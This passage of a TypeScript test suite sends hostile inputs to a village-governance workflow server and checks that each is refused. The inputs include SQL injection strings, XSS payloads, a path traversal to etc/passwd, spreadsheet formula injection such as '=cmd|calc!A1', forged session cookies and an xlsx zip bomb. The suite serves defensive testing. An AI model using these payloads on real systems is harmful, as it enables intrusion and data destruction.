  { name: 'event: CLOSE_VOTE at a recorded meeting', call: (c) => send(c, 'nanwan.clerk', c.ids.twoCommittees, 'CLOSE_VOTE', { members: 7, eligible: 7 }), code: 'PRECONDITION_FAILED', engineCode: 'EVENT_NOT_ALLOWED', names: /CLOSE_VOTE is not allowed in state "two_committees"/ },
  { name: 'event: RECORD_VOTE at a ballot', call: (c) => send(c, 'dongping.clerk', PARTY, 'RECORD_VOTE', TWO_COMMITTEES_MEETING), code: 'PRECONDITION_FAILED', engineCode: 'EVENT_NOT_ALLOWED', names: /RECORD_VOTE is not allowed in state "party_members_meeting"/ },
  { name: 'event: OBJECT before anything is disclosed', call: (c) => send(c, 'nanwan.rep', c.ids.proposal, 'OBJECT', { reason: '反对' }), code: 'PRECONDITION_FAILED', engineCode: 'EVENT_NOT_ALLOWED', names: /OBJECT is not allowed in state "proposal"/ },
  { name: 'event: DISCLOSURE.ENDED sent by a person', call: (c) => review(c, 'DISCLOSURE.ENDED', {}), code: 'PRECONDITION_FAILED', engineCode: 'EVENT_NOT_ALLOWED', names: /DISCLOSURE.ENDED is not allowed/ },
  { name: 'event: DEADLINE.EXCEEDED sent by a person', call: (c) => send(c, 'nanwan.secretary', c.ids.proposal, 'DEADLINE.EXCEEDED', {}), code: 'PRECONDITION_FAILED', engineCode: 'EVENT_NOT_ALLOWED', names: /DEADLINE.EXCEEDED is not allowed/ },
  { name: 'event: START sent to a running instance', call: (c) => send(c, 'nanwan.secretary', c.ids.proposal, 'START', {}), code: 'PRECONDITION_FAILED', engineCode: 'EVENT_NOT_ALLOWED', names: /already started/ },
  { name: 'event: TIMER sent by a person', call: (c) => review(c, 'TIMER', { timer: 'resolution_disclosure:disclosure' }), code: 'FORBIDDEN', names: /timer events come from the scheduler only/ },
  { name: 'event: anything to an ended instance', call: (c) => send(c, 'xiling.secretary', DONE, 'SUBMIT', PROPOSAL), code: 'PRECONDITION_FAILED', engineCode: 'EVENT_NOT_ALLOWED', names: /the instance has ended \(rejected\)/ },
  { name: 'event: a lower-case type', call: (c) => send(c, 'nanwan.secretary', c.ids.proposal, 'submit', PROPOSAL), code: 'BAD_REQUEST', engineCode: 'EVENT_INVALID', names: /UPPER_SNAKE_CASE name, got "submit"/ },
  { name: 'event: a type carrying SQL', call: (c) => send(c, 'nanwan.secretary', c.ids.proposal, "SUBMIT'; DROP TABLE history; --", PROPOSAL), code: 'BAD_REQUEST', engineCode: 'EVENT_INVALID', names: /UPPER_SNAKE_CASE name, got "SUBMIT'; DROP TABLE history; --"/ },
  { name: 'event: a type carrying a script', call: (c) => send(c, 'nanwan.secretary', c.ids.proposal, '<script>alert(1)</script>', {}), code: 'BAD_REQUEST', engineCode: 'EVENT_INVALID', names: /UPPER_SNAKE_CASE name, got "<script>alert\(1\)<\/script>"/ },
  { name: 'event: a 65-character type', call: (c) => send(c, 'nanwan.secretary', c.ids.proposal, 'A'.repeat(65), {}), code: 'BAD_REQUEST', names: /^\/type / },
  { name: 'event: an instance id that does not exist', call: (c) => c.as('nanwan.secretary').instances.send.mutate({ id: "' OR 1=1 --", seq: 1, type: 'SUBMIT', payload: PROPOSAL }), code: 'NOT_FOUND', names: /instance ' OR 1=1 -- does not exist/ },
  { name: 'event: an instance id of 101 characters', call: (c) => c.as('nanwan.secretary').instances.send.mutate({ id: 'i'.repeat(101), seq: 1, type: 'SUBMIT', payload: PROPOSAL }), code: 'BAD_REQUEST', names: /^\/id / },
);

// ── stale and malformed sequence numbers ─────────────────────────────────────────────────────────
add(
  { name: 'seq: one behind', call: (c) => send(c, 'dongping.party9', PARTY, 'CAST_BALLOT', { choice: 'for' }, c.seq(PARTY) - 1), code: 'CONFLICT', names: /instance has moved on \(you saw record \d+, it is at \d+\)/ },
  { name: 'seq: one ahead', call: (c) => send(c, 'dongping.party9', PARTY, 'CAST_BALLOT', { choice: 'for' }, c.seq(PARTY) + 1), code: 'CONFLICT', names: /moved on/ },
  { name: 'seq: the very first record', call: (c) => send(c, 'dongping.party9', PARTY, 'CAST_BALLOT', { choice: 'for' }, 1), code: 'CONFLICT', names: /you saw record 1,/ },
  { name: 'seq: 2^53', call: (c) => send(c, 'dongping.party9', PARTY, 'CAST_BALLOT', { choice: 'for' }, 2 ** 53), code: 'BAD_REQUEST', names: /^\/seq / },
  { name: 'seq: zero', call: (c) => send(c, 'dongping.party9', PARTY, 'CAST_BALLOT', { choice: 'for' }, 0), code: 'BAD_REQUEST', names: /^\/seq / },
  { name: 'seq: negative', call: (c) => send(c, 'dongping.party9', PARTY, 'CAST_BALLOT', { choice: 'for' }, -5), code: 'BAD_REQUEST', names: /^\/seq / },
  { name: 'seq: fractional', call: (c) => send(c, 'dongping.party9', PARTY, 'CAST_BALLOT', { choice: 'for' }, c.seq(PARTY) + 0.5), code: 'BAD_REQUEST', names: /^\/seq / },
  { name: 'seq: a string', call: (c) => send(c, 'dongping.party9', PARTY, 'CAST_BALLOT', { choice: 'for' }, String(c.seq(PARTY)) as never), code: 'BAD_REQUEST', names: /^\/seq / },
  { name: 'seq: missing', call: (c) => c.as('dongping.party9').instances.send.mutate({ id: PARTY, type: 'CAST_BALLOT', payload: { choice: 'for' } } as never), code: 'BAD_REQUEST', names: /^\/seq / },
);

// ── forged and stale sessions ────────────────────────────────────────────────────────────────────
const startAs = (cookie: string | null) => ({ ...json({ villageId: 'nanwan', flowId: FIVE, title: '伪造会话' }), as: null, ...(cookie === null ? {} : { headers: { 'content-type': 'application/json', cookie } }) });
add(
  { name: 'session: no cookie', call: (c) => c.http('instances.start', startAs(null)), code: 'UNAUTHORIZED', names: /sign in first/ },
  { name: 'session: a random token', call: (c) => c.http('instances.start', startAs('vf_session=bm90LWEtcmVhbC10b2tlbi1qdXN0LXJhbmRvbS1ieXRlcw')), code: 'UNAUTHORIZED', names: /sign in first/ },
  { name: 'session: a 10 kB token', call: (c) => c.http('instances.start', startAs(`vf_session=${'A'.repeat(10_000)}`)), code: 'UNAUTHORIZED', names: /sign in first/ },
  { name: 'session: broken %-escapes', call: (c) => c.http('instances.start', startAs('vf_session=%E0%A4%A')), code: 'UNAUTHORIZED', names: /sign in first/ },
  { name: 'session: SQL in the token', call: (c) => c.http('instances.start', startAs("vf_session=' OR '1'='1")), code: 'UNAUTHORIZED', names: /sign in first/ },
  { name: 'session: a user id instead of a token', call: (c) => c.http('instances.start', startAs('vf_session=qs-admin')), code: 'UNAUTHORIZED', names: /sign in first/ },
  { name: 'session: the hash of a real token (as stored) instead of the token', call: (c) => c.http('instances.start', startAs(`vf_session=${storedHash}`)), code: 'UNAUTHORIZED', names: /sign in first/ },
  { name: 'session: signed out', call: (c) => c.http('instances.start', startAs(loggedOut)), code: 'UNAUTHORIZED', names: /sign in first/ },
  {
    name: 'session: expired (clock 8 days on)',
    call: async (c) => {
      server.clock.advance(8 * 86400_000);
      try {
        return await c.http('instances.start', startAs(sessionOf.get('nanwan.secretary')!));
      } finally {
        server.clock.advance(-8 * 86400_000);
      }
    },
    code: 'UNAUTHORIZED',
    names: /sign in first/,
  },
);

// ── sign-in: failures are counted (login_failures rows are the throttle's memory; nothing else) ──
const login = (username: string, password: string) => (c: Ctx) => c.http('auth.login', { ...json({ username, password }), as: null });
add(
  { name: 'login: wrong password', call: login('nanwan.clerk', 'wrong-password'), code: 'UNAUTHORIZED', names: /wrong user name or password/, writes: { table: 'login_failures', rows: 1 } },
  { name: 'login: unknown user', call: login('nobody', DEMO_PASSWORD), code: 'UNAUTHORIZED', names: /wrong user name or password/, writes: { table: 'login_failures', rows: 1 } },
  { name: "login: SQL in the user name", call: login("admin' OR '1'='1' --", DEMO_PASSWORD), code: 'UNAUTHORIZED', names: /wrong user name or password/, writes: { table: 'login_failures', rows: 1 } },
  { name: 'login: empty user name', call: login('', DEMO_PASSWORD), code: 'BAD_REQUEST', names: /^\/username / },
  { name: 'login: a 201-character password', call: login('nanwan.clerk', 'p'.repeat(201)), code: 'BAD_REQUEST', names: /^\/password / },
  {
    name: 'login: throttled after five failures (even with the right password), and nothing more is counted',
    setup: async (c) => {
      for (let i = 0; i < 5; i++) await c.http('auth.login', { ...json({ username: 'xiling.rep', password: `guess-${i}` }), as: null });
    },
    call: login('xiling.rep', DEMO_PASSWORD),
    code: 'TOO_MANY_REQUESTS',
    names: /too many failed sign-ins/,
    engineCode: 'SIGN_IN_THROTTLED',
  },
);

// ── passwords: a user's own new one meets the stated rule; an admin's reset names a user of the township ──
const changeTo = (next: string, current = DEMO_PASSWORD) => (c: Ctx) => c.as('nanwan.villager').auth.changePassword.mutate({ current, next });
const RULE = /^\/next must be at least 8 characters, mixing at least two of letters, digits and other characters, not containing the user name, and not the current password/;
add(
  { name: 'password: a new one of 7 characters', call: changeTo('abc-123'), code: 'BAD_REQUEST', names: RULE },
  { name: 'password: a new one of digits only', call: changeTo('2026031512'), code: 'BAD_REQUEST', names: RULE },
  { name: 'password: a new one containing the user name', call: changeTo('Nanwan.Villager-2026'), code: 'BAD_REQUEST', names: RULE },
  { name: 'password: the current one again', call: changeTo(DEMO_PASSWORD), code: 'BAD_REQUEST', names: RULE },
  { name: 'password: a 201-character new one', call: changeTo('p1'.repeat(101)), code: 'BAD_REQUEST', names: /^\/next / },
  { name: 'password: a wrong current one (counted as a failed sign-in)', call: changeTo('good-new-pass-1', 'not-my-password'), code: 'BAD_REQUEST', names: /^\/current is not your current password/, writes: { table: 'login_failures', rows: 1 } },
  { name: 'password: a reset for a user not in the township', call: (c) => c.as('qs.admin').org.resetPassword.mutate({ userId: 'someone-elsewhere', password: 'handed-over-2026' }), code: 'BAD_REQUEST', names: /^\/userId is not a user of this township/ },
  { name: 'password: a reset to 7 characters', call: (c) => c.as('qs.admin').org.resetPassword.mutate({ userId: 'nanwan-villager', password: 'short12' }), code: 'BAD_REQUEST', names: /^\/password / },
);

// ── malformed requests ───────────────────────────────────────────────────────────────────────────
const raw = (path: string, init: RequestInit) => (c: Ctx) => c.http(path, { ...init, as: 'nanwan.secretary' });
add(
  { name: 'http: text/plain body', call: raw('instances.start', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{"villageId":"nanwan"}' }), code: 'UNSUPPORTED_MEDIA_TYPE', names: /Unsupported content-type "text\/plain/ },
  { name: 'http: an XML body', call: raw('instances.start', { method: 'POST', headers: { 'content-type': 'application/xml' }, body: '<start village="nanwan"/>' }), code: 'UNSUPPORTED_MEDIA_TYPE', names: /Unsupported content-type "application\/xml/ },
  { name: 'http: a multipart upload to a JSON procedure', call: raw('instances.start', { method: 'POST', body: form({ villageId: 'nanwan', flowId: FIVE, file: 'x'.repeat(1024) }) }), code: 'BAD_REQUEST', names: /^\/villageId / },
  { name: 'http: an octet-stream upload to a JSON procedure', call: raw('instances.start', { method: 'POST', headers: { 'content-type': 'application/octet-stream' }, body: new Uint8Array(4096) }), code: 'BAD_REQUEST', names: /^\/villageId / },
  { name: 'http: a 5 MB upload (over the request limit)', call: raw('instances.start', { method: 'POST', body: form({ villageId: 'nanwan', flowId: FIVE, file: 'x'.repeat(5 * 1024 * 1024) }) }), code: 'PAYLOAD_TOO_LARGE', names: /^what was sent is larger than 4 MB/ },
  { name: 'http: truncated JSON', call: raw('instances.start', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"villageId": "nan' }), code: 'BAD_REQUEST', names: /JSON/ },
  { name: 'http: a JSON body of null', call: raw('instances.start', { method: 'POST', headers: { 'content-type': 'application/json' }, body: 'null' }), code: 'BAD_REQUEST', names: /expected object/ },
  { name: 'http: GET on a mutation', call: raw(`instances.start?input=${encodeURIComponent(JSON.stringify({ villageId: 'nanwan', flowId: FIVE }))}`, { method: 'GET' }), code: 'METHOD_NOT_SUPPORTED', names: /Unsupported GET-request to mutation procedure/ },
  { name: 'http: a procedure that does not exist', call: raw('instances.delete', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }), code: 'NOT_FOUND', names: /No procedure found on path "instances.delete"/ },
  { name: 'http: a path escaping the router', call: raw('..%2F..%2Fetc%2Fpasswd', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }), code: 'NOT_FOUND', names: /No procedure found/ },
);

// ── other procedures ─────────────────────────────────────────────────────────────────────────────
const item = { code: 'QS-TEST-1', name: '测试事项', type: '公共服务', department: '党政办', legalBasis: '', serviceObject: '村民', conditions: '', materials: [], promisedDays: 5, statutoryDays: 10, fee: '不收费', mode: 'village_accepts', flowId: FIVE };
const user = { username: 'new.user', displayName: '新用户', password: 'long-enough-password', roles: [{ role: 'clerk', villageId: 'nanwan' }] };
add(
  { name: 'user: a user name with SQL', call: (c) => c.as('qs.admin').org.createUser.mutate({ ...user, username: "x'; DROP TABLE users; --" } as never), code: 'BAD_REQUEST', names: /^\/username / },
  { name: 'user: a 7-character password', call: (c) => c.as('qs.admin').org.createUser.mutate({ ...user, password: 'short12' } as never), code: 'BAD_REQUEST', names: /^\/password / },
  { name: 'user: a role that does not exist', call: (c) => c.as('qs.admin').org.createUser.mutate({ ...user, roles: [{ role: 'root', villageId: null }] } as never), code: 'BAD_REQUEST', names: /^\/roles\/0\/role / },
  { name: 'user: a township role tied to a village', call: (c) => c.as('qs.admin').org.createUser.mutate({ ...user, roles: [{ role: 'township_admin', villageId: 'nanwan' }] } as never), code: 'BAD_REQUEST', names: /^\/roles\/0\/villageId must be null/ },
  { name: 'user: a village role in a foreign village', call: (c) => c.as('qs.admin').org.createUser.mutate({ ...user, roles: [{ role: 'clerk', villageId: 'elsewhere' }] } as never), code: 'BAD_REQUEST', names: /^\/roles\/0\/villageId must be a village of this township/ },
  { name: 'user: a user name already taken', call: (c) => c.as('qs.admin').org.createUser.mutate({ ...user, username: 'nanwan.clerk' } as never), code: 'BAD_REQUEST', names: /^\/username is taken/ },
  { name: 'user: roles for a user not in the township', call: (c) => c.as('qs.admin').org.setRoles.mutate({ userId: 'ghost', roles: [] }), code: 'BAD_REQUEST', names: /user ghost is not in this township/ },
  // ── going live (issue 18): villages, people, the setup link ──
  { name: 'village: an empty name', call: (c) => c.as('qs.admin').org.createVillage.mutate({ name: '  ', kind: 'village' }), code: 'BAD_REQUEST', names: /^\/name / },
  { name: 'village: a kind that does not exist', call: (c) => c.as('qs.admin').org.createVillage.mutate({ name: '新村', kind: 'city' } as never), code: 'BAD_REQUEST', names: /^\/kind / },
  { name: 'village: the name of another live village', call: (c) => c.as('qs.admin').org.createVillage.mutate({ name: '东坪村', kind: 'village' }), code: 'BAD_REQUEST', names: /^\/name is the name of another village/ },
  { name: 'village: renaming one of another township', call: (c) => c.as('qs.admin').org.renameVillage.mutate({ villageId: 'elsewhere', name: '新名' }), code: 'BAD_REQUEST', names: /^\/villageId is not a village of this township/ },
  { name: 'user: a 10-digit mobile', call: (c) => c.as('qs.admin').org.createUser.mutate({ ...user, mobile: '1380013800' } as never), code: 'BAD_REQUEST', names: /^\/mobile / },
  { name: 'user: editing a user not in the township', call: (c) => c.as('qs.admin').org.updateUser.mutate({ userId: 'ghost', displayName: '鬼' }), code: 'BAD_REQUEST', names: /^\/userId is not a user of this township/ },
  { name: 'user: deactivating oneself', call: (c) => c.as('qs.admin').org.setActive.mutate({ userId: 'qs-admin', active: false }), code: 'BAD_REQUEST', names: /^\/userId is you/ },
  { name: 'setup: a link that was never issued', call: (c) => c.as('qs.admin').org.setup.mutate({ token: 'never-issued', townshipName: '冒名镇', username: 'fake.admin', displayName: '冒名', password: 'Fake-admin-2026' }), code: 'NOT_FOUND', names: /setup link is not valid/ },
  { name: 'setup: a user name with spaces', call: (c) => c.as('qs.admin').org.setup.mutate({ token: 'never-issued', townshipName: '冒名镇', username: 'fake admin', displayName: '冒名', password: 'Fake-admin-2026' }), code: 'BAD_REQUEST', names: /^\/username / },
  { name: 'catalogue: a code with spaces and quotes', call: (c) => c.as('qs.admin').catalogue.upsert.mutate({ ...item, code: "A B'--" } as never), code: 'BAD_REQUEST', names: /^\/code / },
  { name: 'catalogue: promised over statutory days', call: (c) => c.as('qs.admin').catalogue.upsert.mutate({ ...item, promisedDays: 30 } as never), code: 'BAD_REQUEST', names: /^\/promisedDays the promised limit cannot exceed the statutory one/ },
  { name: 'catalogue: handled without a flow', call: (c) => c.as('qs.admin').catalogue.upsert.mutate({ ...item, flowId: null } as never), code: 'BAD_REQUEST', names: /^\/flowId an item that is handled needs the flow/ },
  { name: 'catalogue: a flow that is not published', call: (c) => c.as('qs.admin').catalogue.upsert.mutate({ ...item, flowId: 'hostile-1' } as never), code: 'BAD_REQUEST', names: /^\/flowId flow hostile-1 has no published version/ },
  { name: 'catalogue: days as a string', call: (c) => c.as('qs.admin').catalogue.upsert.mutate({ ...item, promisedDays: '5' } as never), code: 'BAD_REQUEST', names: /^\/promisedDays / },
  { name: 'catalogue: an unknown mode', call: (c) => c.as('qs.admin').catalogue.upsert.mutate({ ...item, mode: 'bribe' } as never), code: 'BAD_REQUEST', names: /^\/mode / },
  { name: 'catalogue: updating an id that does not exist', call: (c) => c.as('qs.admin').catalogue.upsert.mutate({ ...item, id: 'no-such-item' } as never), code: 'NOT_FOUND', names: /catalogue item no-such-item does not exist/ },
  { name: 'catalogue: deleting an id that does not exist', call: (c) => c.as('qs.admin').catalogue.delete.mutate({ id: "1' OR '1'='1" }), code: 'NOT_FOUND', names: /catalogue item 1' OR '1'='1 does not exist/ },
  { name: 'catalogue: a CSV without its columns', call: (c) => c.as('qs.admin').catalogue.importCsv.mutate({ csv: 'a,b\n1,2\n' }), code: 'BAD_REQUEST', names: /^\/columns\/code missing column/ },
  { name: 'catalogue: a CSV with a formula and an over-long row', call: async (c) => c.as('qs.admin').catalogue.importCsv.mutate({ csv: await csvWith({ 事项编码: '=cmd|calc!A1', 事项名称: 'x'.repeat(300) }) }), code: 'BAD_REQUEST', names: /^\/rows\/0\/(code|name) / },
  { name: 'catalogue: a 3 MB CSV', call: (c) => c.as('qs.admin').catalogue.importCsv.mutate({ csv: 'x'.repeat(3 * 1024 * 1024) }), code: 'BAD_REQUEST', names: /^\/csv / },
  // ── importing people (issue 18 item 3): each bad file is refused whole, nobody added ──
  { name: 'roster count: negative', call: (c) => registerCount(c, { count: -5 }), code: 'BAD_REQUEST', names: /^\/count must be at least 1/ },
  { name: 'roster count: zero', call: (c) => registerCount(c, { count: 0 }), code: 'BAD_REQUEST', names: /^\/count must be at least 1/ },
  { name: 'roster count: a billion', call: (c) => registerCount(c, { count: 1e9 }), code: 'BAD_REQUEST', names: /^\/count must be at most 1000000/ },
  { name: 'roster count: fractional', call: (c) => registerCount(c, { count: 12.5 }), code: 'BAD_REQUEST', names: /^\/count / },
  { name: 'roster count: as a string', call: (c) => registerCount(c, { count: '1200' }), code: 'BAD_REQUEST', names: /^\/count / },
  { name: 'roster count: 30 February', call: (c) => registerCount(c, { effectiveFrom: '2026-02-30' }), code: 'BAD_REQUEST', names: /^\/effectiveFrom is not a day of the calendar/ },
  { name: 'roster count: a date with slashes', call: (c) => registerCount(c, { effectiveFrom: '2026/01/01' }), code: 'BAD_REQUEST', names: /^\/effectiveFrom must be a date, YYYY-MM-DD/ },
  { name: 'roster count: no source', call: (c) => registerCount(c, { source: undefined }), code: 'BAD_REQUEST', names: /^\/source / },
  { name: 'roster count: a blank source', call: (c) => registerCount(c, { source: '   ' }), code: 'BAD_REQUEST', names: /^\/source must name the document the count comes from/ },
  { name: 'roster count: a 201-character source', call: (c) => registerCount(c, { source: '名'.repeat(201) }), code: 'BAD_REQUEST', names: /^\/source / },
  { name: 'roster count: a role that does not exist', call: (c) => registerCount(c, { role: 'king' }), code: 'BAD_REQUEST', names: /^\/role is not a village role of the township.s catalogue: king/ },
  { name: 'roster count: a village of another township', call: (c) => registerCount(c, { villageId: 'elsewhere' }), code: 'BAD_REQUEST', names: /^\/villageId is not a village of this township/ },
  { name: 'probationary: a role the person does not hold', call: (c) => c.as('qs.admin').rosters.setProbationary.mutate({ userId: 'nanwan-clerk', villageId: 'nanwan', role: 'party_member', probationary: true }), code: 'BAD_REQUEST', names: /^\/role is not a role .* holds in 南湾社区: party_member/ },
  { name: 'probationary: a user not in the township', call: (c) => c.as('qs.admin').rosters.setProbationary.mutate({ userId: 'ghost', villageId: 'nanwan', role: 'party_member', probationary: true }), code: 'BAD_REQUEST', names: /^\/userId is not a user of this township: ghost/ },
  { name: 'meeting: members the roster does not have', call: (c) => meeting(c, { ...TWO_COMMITTEES_MEETING, members: 25, eligible: 25 }), code: 'BAD_REQUEST', engineCode: 'ROSTER_MISMATCH', names: /roster on \d{4}-\d{2}-\d{2} has 7 members; the record says 25/ },
  { name: 'meeting: a roster sent by the clerk', call: (c) => meeting(c, { ...TWO_COMMITTEES_MEETING, roster: { hash: 'a'.repeat(64), members: 25, voting: 25 } }), code: 'BAD_REQUEST', names: /^\/roster: the roster is supplied by the server/ },
  { name: 'import: a picture sent as .xlsx', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'xlsx', base64: b64('\x89PNG\r\n\x1a\n0000') }, fileName: 'x.xlsx' }), code: 'BAD_REQUEST', names: /^\/file this is not an \.xlsx file/ },
  { name: 'import: an old .xls', call: (c) => c.as('qs.admin').org.importPreview.mutate({ file: { kind: 'xlsx', base64: b64(Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1])) } }), code: 'BAD_REQUEST', names: /^\/file old Excel files \(\.xls\) are not read/ },
  { name: 'import: a CSV holding binary data', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64(Buffer.from([0x4d, 0x5a, 0x90, 0, 3, 0])) }, fileName: 'virus.csv' }), code: 'BAD_REQUEST', names: /^\/file the file is not a CSV text file/ },
  { name: 'import: a kind that is not a sheet', call: (c) => c.as('qs.admin').org.importPreview.mutate({ file: { kind: 'pdf', base64: b64('%PDF-1.4') } } as never), code: 'BAD_REQUEST', names: /^\/file\/kind / },
  { name: 'import: a 2.5 MB file', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64('x'.repeat(2.5 * 1024 * 1024)) }, fileName: 'big.csv' }), code: 'BAD_REQUEST', names: /^\/file\/base64 the file is larger than 2 MB/ },
  { name: 'import: a 10 MB file', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64('x'.repeat(10 * 1024 * 1024)) }, fileName: 'huge.csv' }), code: 'PAYLOAD_TOO_LARGE', names: /^what was sent is larger than 4 MB/ },
  { name: 'import: a sheet without its headers', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64('张三,13800000001,东坪村,村民\n') }, fileName: 'x.csv' }), code: 'BAD_REQUEST', names: /^\/file\/header the first row must be the headers/ },
  { name: 'import: formula cells in the mobile, village and role columns', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64(`姓名,手机号,村,角色\n"=HYPERLINK(""http://x"",""y"")","=1+1","@SUM(A1)","-2+3"\n`) }, fileName: 'x.csv' }), code: 'BAD_REQUEST', names: /^\/rows\/2\/village no village of the township has this name/ },
  // issue 18's bad-input line: renamed files, a 10 MB sheet, a zip bomb
  { name: 'import: a PDF renamed .xlsx', call: (c) => c.as('qs.admin').org.importPreview.mutate({ file: { kind: 'xlsx', base64: b64('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n') } }), code: 'BAD_REQUEST', names: /^\/file this is not an \.xlsx file/ },
  { name: 'import: a PDF renamed .csv', call: (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'csv', base64: b64(Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from([0xe2, 0, 0xcf, 0xd3])])) }, fileName: 'x.csv' }), code: 'BAD_REQUEST', names: /^\/file the file is not a CSV text file/ },
  { name: 'import: a 10 MB .xlsx', call: (c) => c.as('qs.admin').org.importPreview.mutate({ file: { kind: 'xlsx', base64: b64(Buffer.alloc(10 * 1024 * 1024, 'P')) } }), code: 'PAYLOAD_TOO_LARGE', names: /^what was sent is larger than 4 MB/ },
  { name: 'import: an .xlsx zip bomb (300 MB inflated, its sizes understated)', call: async (c) => c.as('qs.admin').org.importCommit.mutate({ file: { kind: 'xlsx', base64: (await xlsxBomb(300, true)).toString('base64') }, fileName: 'bomb.xlsx' }), code: 'BAD_REQUEST', names: /^\/file the \.xlsx file unpacks to more than 50 MB/ },
  { name: 'catalogue: starting an inform-only item', call: async (c) => c.as('nanwan.secretary').catalogue.start.mutate({ itemId: await informOnly(c), villageId: 'nanwan' }), code: 'BAD_REQUEST', names: /is inform-only/ },
  { name: 'audit: a log limit of 5000', call: (c) => c.as('qs.auditor').audit.log.query({ limit: 5000 }), code: 'BAD_REQUEST', names: /^\/limit / },
  { name: 'audit: verify an instance that does not exist', call: (c) => c.as('qs.auditor').audit.verify.query({ id: '<img src=x onerror=alert(1)>' }), code: 'NOT_FOUND', names: /instance <img src=x onerror=alert\(1\)> does not exist/ },
  { name: 'list: a limit of zero', call: (c) => c.as('qs.admin').instances.list.query({ limit: 0 }), code: 'BAD_REQUEST', names: /^\/limit / },
  { name: 'list: a status that is not one', call: (c) => c.as('qs.admin').instances.list.query({ status: "active' OR 1=1" as never }), code: 'BAD_REQUEST', names: /^\/status / },
);

// ── the working-day calendar (a made-up 2027 schedule that passes the checks, with one fault each) ─
const MADE_UP_2027 = JSON.parse(readFileSync(join(import.meta.dirname, '..', 'fixtures', 'calendar-2027.made-up.holiday-cn.json'), 'utf8')) as { year: number; days: { name: string; date: string; isOffDay: boolean }[] };
const year2027 = (days = MADE_UP_2027.days) => fromHolidayCn({ ...MADE_UP_2027, days }, { title: '测试用虚构的2027年放假安排（非官方）' });
add(
  { name: 'calendar: a schedule that misses a Spring Festival day', call: (c) => c.as('qs.admin').calendar.adopt.mutate({ year: year2027(MADE_UP_2027.days.filter((d) => d.date !== '2027-02-08')) }), code: 'BAD_REQUEST', engineCode: 'CALENDAR_INVALID', names: /2027-02-08 \(Spring Festival\) is a statutory holiday but not a rest day/ },
  { name: 'calendar: a make-up working day on a Tuesday', call: (c) => c.as('qs.admin').calendar.adopt.mutate({ year: year2027([...MADE_UP_2027.days, { name: '春节', date: '2027-03-02', isOffDay: false }]) }), code: 'BAD_REQUEST', engineCode: 'CALENDAR_INVALID', names: /make-up working day 2027-03-02 is a Tuesday/ },
  { name: 'calendar: a date of another year', call: (c) => c.as('qs.admin').calendar.adopt.mutate({ year: year2027([...MADE_UP_2027.days, { name: '元旦', date: '2026-12-31', isOffDay: true }]) }), code: 'BAD_REQUEST', engineCode: 'CALENDAR_INVALID', names: /2026-12-31 is not in 2027/ },
  { name: 'calendar: a holiday-cn row without isOffDay', call: (c) => c.as('qs.admin').calendar.preview.mutate({ holidayCn: { year: 2027, days: [{ name: '元旦', date: '2027-01-01' }] } }), code: 'BAD_REQUEST', engineCode: 'CALENDAR_INVALID', names: /^days\[0\]\.isOffDay: must be true/ },
  { name: 'calendar: a date with SQL in it', call: (c) => c.as('qs.admin').calendar.adopt.mutate({ year: { ...year2027(), rest: ["2027'); DROP TABLE calendar_versions; --"] } }), code: 'BAD_REQUEST', names: /^\/year\/rest\/0 / },
  { name: 'calendar: the year 3000', call: (c) => c.as('qs.admin').calendar.show.query({ year: 3000 }), code: 'BAD_REQUEST', names: /^\/year / },
);

// ─────────────────────────────────────────────────────────────────────────────────────────────────
let server: TestServer;
let dir: string;
let storedHash: string;
let loggedOut: string;
const sessionOf = new Map<string, string>();
const clients = new Map<string, Client>();

function nested(levels: number): Record<string, unknown> {
  let v: Record<string, unknown> = { leaf: 1 };
  for (let i = 0; i < levels; i++) v = { n: v };
  return v;
}
function deepJson(levels: number): string {
  return '{"n":'.repeat(levels) + '1' + '}'.repeat(levels);
}
function form(fields: Record<string, string>): FormData {
  const f = new FormData();
  for (const [k, v] of Object.entries(fields)) {
    if (k === 'file') f.set(k, new Blob([v], { type: 'application/x-msdownload' }), 'virus.exe');
    else f.set(k, v);
  }
  return f;
}
async function publishedFive(c: Ctx): Promise<Json> {
  const v = (await c.as('qs.admin').flows.list.query({ flowId: FIVE }))[0]!;
  return (await c.as('qs.admin').flows.get.query({ id: v.id })).flow;
}
function b64(content: string | Buffer): string {
  return Buffer.from(content).toString('base64');
}
async function csvWith(row: Record<string, string>): Promise<string> {
  const headers = ['事项编码', '事项名称', '办理方式'];
  const values = { 办理方式: '告知', ...row } as Record<string, string>;
  return `${headers.join(',')}\n${headers.map((h) => JSON.stringify(values[h] ?? '')).join(',')}\n`;
}
async function informOnly(c: Ctx): Promise<string> {
  const found = (await c.as('qs.admin').catalogue.list.query()).find((i) => i.mode === 'inform');
  expect(found, 'the demo catalogue has an inform-only item').toBeTruthy();
  return found!.id;
}
async function cliValidate(text: string) {
  const file = join(dir, 'flow.json');
  writeFileSync(file, text);
  const out: string[] = [];
  const err: string[] = [];
  const code = await main(['validate', file], { out: (l) => out.push(l), err: (l) => err.push(l) });
  return { code, out, err };
}

/** The refusal a call ended in: a tRPC client error, or a raw HTTP error answer. */
async function refusalOf(call: Promise<unknown>): Promise<Refusal> {
  let value: unknown;
  try {
    value = await call;
  } catch (error) {
    if (!(error instanceof TRPCClientError)) throw error;
    const data = (error.data ?? {}) as { code?: string; issues?: Refusal['issues']; engineCode?: string };
    return { code: String(data.code), message: error.message, issues: data.issues ?? [], engineCode: data.engineCode };
  }
  if (value instanceof Response) {
    const body = (await value.json()) as { error?: { message: string; data: { code: string; issues?: Refusal['issues']; engineCode?: string } } };
    if (!body.error) throw new Error(`expected a refusal, got HTTP ${value.status}: ${JSON.stringify(body).slice(0, 300)}`);
    return { code: body.error.data.code, message: body.error.message, issues: body.error.data.issues ?? [], engineCode: body.error.data.engineCode };
  }
